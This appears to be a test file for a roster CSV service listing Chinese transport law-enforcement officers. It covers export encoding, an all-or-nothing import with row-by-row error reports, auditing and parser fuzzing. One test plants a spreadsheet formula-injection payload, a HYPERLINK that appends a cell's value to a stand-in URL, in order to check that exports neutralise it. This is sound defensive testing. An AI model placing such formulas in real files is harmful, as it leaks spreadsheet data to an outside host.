/**
 * 执法人员花名册 as CSV: the export Excel opens with its Chinese intact, an import keyed by 执法证号 that
 * is all or nothing and lists every bad row, cells neutralised against formula injection, and a reader
 * that survives whatever bytes it is given.
 */
import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import type { RosterImportResult } from '../../main/contract/people';
import { parseCsv } from '../../main/services/catalog-csv';
import { readRoster, ROSTER_COLUMNS } from '../../main/services/roster-csv';
import { createRng } from '../../main/services/demo/sample-data';
import { startTestBackend, type Client, type TestBackend } from '../support/backend';
import { movableClock } from '../support/procedure';

const HEADER = '姓名,所在单位,执法证号,发证机关,证件有效期起,证件有效期止,执法门类,状态,省级编号';
const BOM = '\uFEFF';

function file(...rows: string[]): string {
  return `${BOM}${HEADER}\r\n${rows.map((r) => `${r}\r\n`).join('')}`;
}

describe('执法人员花名册 CSV', () => {
  let tb: TestBackend;
  let admin: Client;
  let head: Client;

  /** What the import must leave alone when it refuses: every officer row and the length of the audit log. */
  function snapshot() {
    const r = tb.backend.db.raw();
    return {
      officers: JSON.stringify(r.prepare('SELECT * FROM officer ORDER BY id').all()),
      trainings: r.prepare('SELECT count(*) FROM officer_training').pluck().get(),
      audit: r.prepare('SELECT count(*) FROM audit_log').pluck().get(),
    };
  }

  before(async () => {
    tb = await startTestBackend({ clock: movableClock('2026-03-02') });
    [admin, head] = await Promise.all(['admin', 'head'].map((u) => tb.as(u)));
  });
  after(() => tb.close());

  it('exports UTF-8 with a BOM, Chinese headers, categories by name separated by 、 and the status in words', async () => {
    const out = await head.call('officers.export', {});
    assert.equal(out.fileName, '执法人员花名册-2026-03-02.csv');
    assert.equal(out.rows, 6);
    assert.ok(out.content.startsWith(BOM));
    const lines = out.content.slice(1).split('\r\n');
    assert.equal(lines[0], HEADER);
    assert.equal(ROSTER_COLUMNS.map((c) => c.header).join(','), HEADER);
    assert.match(lines[1], /^李明,东州市交通运输综合行政执法支队,14330100001,东州市交通运输局,\d{4}-\d{2}-\d{2},\d{4}-\d{2}-\d{2},公路路政、道路运政、水路运政、航道行政、港口行政、海事行政、质量安全监督、综合执法,在岗,$/);
  });

  it('takes its own export back unchanged', async () => {
    const out = await admin.call('officers.export', {});
    const r = await admin.call('officers.import', { content: out.content, dryRun: false });
    assert.deepEqual(r, { dryRun: false, added: 0, updated: 0, unchanged: 6, problems: [] });
  });

  it('updates by 执法证号 and adds new numbers, keeping training records; a dry run changes nothing; each change is audited', async () => {
    const zhang = (await admin.call('officers.records', {})).find((o) => o.name === '张伟')!;
    await admin.call('officers.save', {
      id: zhang.id, version: zhang.version, name: zhang.name, unit: zhang.unit, certNo: zhang.certNo, certIssuer: zhang.certIssuer,
      certValidFrom: zhang.certValidFrom!, certValidTo: zhang.certValidTo!, categories: zhang.categories, status: zhang.status,
      trainings: [{ course: '执法文书制作', hours: 6, on: '2026-01-15' }],
    });
    const content = file(
      '张伟,东州市交通运输综合行政执法支队三大队,14330100005,东州市交通运输局,2024/1/1,2029年12月31日,道路运政、公路路政,暂停执法,ZJ-0005',
      '孙丽,东州市交通运输综合行政执法支队,14330100077,东州市交通运输局,2025-07-01,2030-06-30,综合执法,在岗,',
    );
    const before = snapshot();
    const dry = await admin.call('officers.import', { content, dryRun: true });
    assert.deepEqual(dry, { dryRun: true, added: 1, updated: 1, unchanged: 0, problems: [] });
    assert.deepEqual(snapshot(), before, 'a dry run writes nothing');

    const r = await admin.call('officers.import', { content, dryRun: false });
    assert.deepEqual([r.added, r.updated, r.unchanged], [1, 1, 0]);
    const records = await admin.call('officers.records', {});
    const z = records.find((o) => o.certNo === '14330100005')!;
    assert.deepEqual(
      [z.unit, z.certValidFrom, z.certValidTo, z.categories, z.status, z.provincialId, z.trainings.length],
      ['东州市交通运输综合行政执法支队三大队', '2024-01-01', '2029-12-31', ['highway', 'road_transport'], 'suspended', 'ZJ-0005', 1],
    );
    assert.equal(tb.backend.db.raw().prepare('SELECT active FROM officer WHERE id = ?').pluck().get(z.id), 0, 'active follows the status');
    assert.deepEqual(records.find((o) => o.certNo === '14330100077')?.categories, ['comprehensive']);
    const audit = tb.backend.db.raw().prepare("SELECT detail FROM audit_log WHERE action = 'officer.import' ORDER BY id").pluck().all() as string[];
    assert.deepEqual(audit, ['导入执法人员花名册：新增 孙丽（执法证号14330100077）', '导入执法人员花名册：更新 张伟（执法证号14330100005）']);
  });

  it('changes nothing when any row is bad, and lists every bad row with its column in Chinese', async () => {
    const before = snapshot();
    const r = await admin.call('officers.import', {
      dryRun: false,
      content: file(
        '周强,东州市交通运输综合行政执法支队,14330100088,东州市交通运输局,2025-01-01,2030-01-01,道路运政,在岗,',
        ',东州市交通运输综合行政执法支队,14330100089,东州市交通运输局,2025-01-01,2030-01-01,道路运政,在岗,',
        '吴军,东州市交通运输综合行政执法支队,12-34,东州市交通运输局,2025-01-01,2030-01-01,道路运政,在岗,',
        '郑华,东州市交通运输综合行政执法支队,14330100090,东州市交通运输局,2025-02-30,2030-01-01,道路运政,在岗,',
        '冯涛,东州市交通运输综合行政执法支队,14330100091,东州市交通运输局,2030-01-01,2025-01-01,道路运政,在岗,',
        '陈飞,东州市交通运输综合行政执法支队,14330100092,东州市交通运输局,2025-01-01,2030-01-01,铁路运输,在岗,',
        '褚亮,东州市交通运输综合行政执法支队,14330100093,东州市交通运输局,2025-01-01,2030-01-01,道路运政,退休,',
        '卫东,东州市交通运输综合行政执法支队,14330100088,东州市交通运输局,2025-01-01,2030-01-01,道路运政,在岗,',
        '蒋平,东州市交通运输综合行政执法支队,14330100094,东州市交通运输局,2025-01-01,2030-01-01',
        '沈阳,东州市交通运输综合行政执法支队,14330100095,东州市交通运输局,2025-01-01,2030-01-01,,在岗,',
      ),
    });
    assert.deepEqual([r.added, r.updated, r.unchanged], [0, 0, 0]);
    assert.deepEqual(
      r.problems.map((p) => `${p.row}:${p.field}`),
      ['2:姓名', '3:执法证号', '4:证件有效期起', '5:证件有效期止', '6:执法门类', '7:状态', '8:执法证号', '9:整行', '10:执法门类'],
    );
    const byRow = new Map(r.problems.map((p) => [p.row, p.message]));
    assert.equal(byRow.get(2), '请填写姓名');
    assert.equal(byRow.get(3), '执法证号应为6至20位数字或字母');
    assert.equal(byRow.get(4), '日期无效');
    assert.equal(byRow.get(5), '证件有效期止不能早于有效期起');
    assert.match(byRow.get(6)!, /无法识别的执法门类“铁路运输”/);
    assert.equal(byRow.get(7), '状态应为“在岗”“调离”或“暂停执法”');
    assert.equal(byRow.get(8), '执法证号“14330100088”与第1行重复');
    assert.match(byRow.get(9)!, /本行有6列，表头有9列/);
    assert.equal(byRow.get(10), '请至少选择一个执法门类');
    assert.deepEqual(snapshot(), before, 'the good first row was not imported either');
  });

  it('refuses a file that is not a roster with a typed error and writes nothing', async () => {
    const before = snapshot();
    for (const content of ['编码,执法门类,案由名称\r\nRT-01,道路运政,x\r\n', `${BOM}${HEADER}\r\n"未结束的引号,`, '姓名,所在单位\r\n李明,x\r\n', `${HEADER}\r\n`]) {
      const e = await admin.fail('officers.import', { content, dryRun: false });
      assert.equal(e.code, 'ROSTER_IMPORT_INVALID', content);
      assert.match(e.message, /^执法人员花名册有误，未作任何更改：/);
    }
    assert.deepEqual(snapshot(), before);
  });

  it('an exported cell starting with = is neutralised and round-trips', async () => {
    const chen = (await admin.call('officers.records', {})).find((o) => o.name === '陈刚')!;
    const formula = '=HYPERLINK("http://example.invalid/?"&A1,"点击")';
    await admin.call('officers.save', {
      id: chen.id, version: chen.version, name: chen.name, unit: formula, certNo: chen.certNo, certIssuer: '+86东州', certValidFrom: chen.certValidFrom!,
      certValidTo: chen.certValidTo!, categories: chen.categories, status: chen.status, provincialId: '-001', trainings: [],
    });
    const out = await admin.call('officers.export', {});
    const parsed = parseCsv(out.content);
    assert.ok(parsed.ok);
    const row = parsed.records.find((r) => r[2] === chen.certNo)!;
    assert.equal(row[1], `'${formula}`, 'the spreadsheet sees text, not a formula');
    assert.equal(row[3], "'+86东州");
    assert.equal(row[8], "'-001");
    assert.ok(parsed.records.every((r) => r.every((cell) => !/^[=+\-@\t\r]/.test(cell))), 'no cell of the file starts a formula');

    const r = await admin.call('officers.import', { content: out.content, dryRun: false });
    assert.deepEqual([r.added, r.updated, r.unchanged, r.problems.length], [0, 0, 7, 0], 'read back as the same values');
    const again = (await admin.call('officers.records', {})).find((o) => o.id === chen.id)!;
    assert.deepEqual([again.unit, again.certIssuer, again.provincialId], [formula, '+86东州', '-001']);
  });

  it('survives random bytes, stray quotes, BOMs, mixed line ends and huge rows: a typed error or a problems list, nothing written', async () => {
    const rng = createRng(20261202);
    const pickOne = <T>(xs: readonly T[]): T => xs[Math.floor(rng() * xs.length)];
    const valid = (await admin.call('officers.export', {})).content;
    const pieces = ['"', '""', ',', '\r\n', '\n', '\r', BOM, '\u0000', '=', "'", '、', '在岗', '2026-01-01', '李明', '\uFFFD', '\t', ' '];
    const generators: (() => string)[] = [
      // Random code units, lone surrogates included.
      () => String.fromCharCode(...Array.from({ length: Math.floor(rng() * 200) }, () => Math.floor(rng() * 0xffff))),
      () => Array.from({ length: 1 + Math.floor(rng() * 60) }, () => pickOne(pieces)).join(''),
      () => {
        // A valid export with a few characters spliced in or cut out.
        let s = valid;
        for (let k = 0; k < 1 + Math.floor(rng() * 4); k++) {
          const at = Math.floor(rng() * s.length);
          s = rng() < 0.5 ? s.slice(0, at) + pickOne(pieces) + s.slice(at) : s.slice(0, at) + s.slice(at + 1 + Math.floor(rng() * 5));
        }
        return s;
      },
      () => `${HEADER}\r\n${'甲'.repeat(50_000 + Math.floor(rng() * 200_000))},${','.repeat(Math.floor(rng() * 3000))}\r\n`,
      () => `${BOM}${HEADER}\n${Array.from({ length: 200 }, () => valid.split('\r\n')[1 + Math.floor(rng() * 6)]).join(pickOne(['\r\n', '\n', '\r']))}`,
    ];
    const seen = { invalid: 0, problems: 0, entries: 0 };
    for (let i = 0; i < 3000; i++) {
      const r = readRoster(pickOne(generators)());
      seen[r.kind === 'invalid' ? 'invalid' : r.kind === 'problems' ? 'problems' : 'entries']++;
      if (r.kind === 'problems') {
        assert.ok(r.problems.length > 0 && r.problems.length <= 501);
        assert.ok(r.problems.every((p) => Number.isInteger(p.row) && p.field && p.message));
      }
    }
    assert.ok(seen.invalid > 0 && seen.problems > 0, JSON.stringify(seen));

    // Through the API: every refusal leaves the database exactly as it was.
    const before = snapshot();
    for (let i = 0; i < 150; i++) {
      let content = pickOne(generators)();
      if (content.length === 0) content = '"';
      const res = await tb.backend.dispatch('officers.import', { content, dryRun: false }, admin.conn);
      if (res.ok && (res.value as RosterImportResult).problems.length === 0) {
        // A mutation that still reads as a roster (a renamed officer …) is a lawful import: take the new state as the baseline.
        Object.assign(before, snapshot());
        continue;
      }
      if (!res.ok) assert.ok(['ROSTER_IMPORT_INVALID', 'VALIDATION_FAILED'].includes(res.error.code), `${res.error.code} ${res.error.message}`);
      assert.deepEqual(snapshot(), before);
    }
  });
});
